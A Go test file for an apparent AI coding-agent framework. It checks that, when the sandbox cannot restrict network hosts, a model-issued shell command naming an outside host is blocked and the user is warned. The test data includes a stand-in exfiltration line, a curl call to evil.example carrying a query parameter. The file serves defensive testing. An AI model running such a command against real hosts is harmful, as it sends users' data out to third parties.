package actors_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"

	"marvin/actors"
	"marvin/actors/actorstest"
	"marvin/messages"
	"marvin/providers/modeltest"
	"marvin/tools"
)

func TestWordsOfCommandsDecideWhereTheSandboxCannot(t *testing.T) {
	const inside = "MARVIN_TEST_WITHOUT_NOTIFICATIONS"
	if os.Getenv(inside) == "" {
		withoutNotifications(t, inside)
		return
	}
	base, err := os.MkdirTemp("/var/tmp", "marvin-hosts-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(base) })
	dir, home := filepath.Join(base, "project"), filepath.Join(base, "home")
	for _, one := range []string{dir, home} {
		if err := os.Mkdir(one, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	sandbox := tools.NewSandbox(tools.SandboxConfig{Mode: tools.SandboxWorkspace, Environ: os.Environ(), Home: home})
	t.Cleanup(func() { _ = sandbox.Close() })
	next := modeltest.Call{Name: "page"} // the prompt names no host
	server := modeltest.StartFunc(t, func(request modeltest.Request) modeltest.Step {
		if len(resultsIn(request)) > 0 {
			return modeltest.Text("done")
		}
		return modeltest.Calls(next)
	})
	o := atWork(t, actorstest.Setup{Server: server, Dir: dir, Policy: &actors.Policy{Coding: true}, Sandbox: sandbox}, page())
	o.Prompt("go on")
	if !sandbox.HoldsHosts() {
		t.Skip("this system has no whole sandbox")
	}
	line := func(text string) string {
		next = modeltest.Call{Name: "run_command", Args: runArgs{Command: text}}
		o.Prompt("go on")
		return resultsIn(server.Requests()[len(server.Requests())-1])[0]
	}
	if text := line("echo fine > out; cat out"); !strings.Contains(text, "fine") {
		t.Errorf("a command that names no host: %s", text)
	}
	if sandbox.HoldsHosts() {
		t.Error("the sandbox seems to restrict hosts")
	}
	if text := line("curl -s --max-time 5 http://evil.example/?d=1; echo ran > ran"); !strings.Contains(text, "evil.example can read that data") {
		t.Errorf("a command that names a host: %s", text)
	}
	if _, err := os.Stat(filepath.Join(dir, "ran")); err == nil {
		t.Error("it ran")
	}
	if told := actorstest.Pick[messages.Notice](o.Seen); len(told) == 0 || !strings.Contains(told[len(told)-1].Text, "evil.example") {
		t.Errorf("the user is told %+v", told)
	}
}

// withoutNotifications runs this test again in a process that has no seccomp notifications.
func withoutNotifications(t *testing.T, inside string) {
	ended := make(chan error, 1)
	command := exec.Command(os.Args[0], "-test.run=^"+t.Name()+"$", "-test.v")
	command.Env = append(os.Environ(), inside+"=1")
	var out strings.Builder
	command.Stdout, command.Stderr = &out, &out
	go func() { // the filter stays on this thread, which ends with the goroutine
		runtime.LockOSThread()
		filter := []unix.SockFilter{
			{Code: unix.BPF_LD | unix.BPF_W | unix.BPF_ABS, K: 0},
			{Code: unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K, K: unix.SYS_SECCOMP, Jf: 1},
			{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_ERRNO | uint32(unix.EBUSY)},
			{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_ALLOW},
		}
		program := unix.SockFprog{Len: uint16(len(filter)), Filter: &filter[0]}
		err := unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)
		if err == nil {
			err = unix.Prctl(unix.PR_SET_SECCOMP, unix.SECCOMP_MODE_FILTER, uintptr(unsafe.Pointer(&program)), 0, 0)
		}
		if err == nil {
			err = command.Run()
		}
		ended <- err
	}()
	if err := <-ended; err != nil {
		t.Errorf("%v\n%s", err, out.String())
	} else if strings.Contains(out.String(), "--- SKIP") {
		t.Skip(out.String())
	}
}
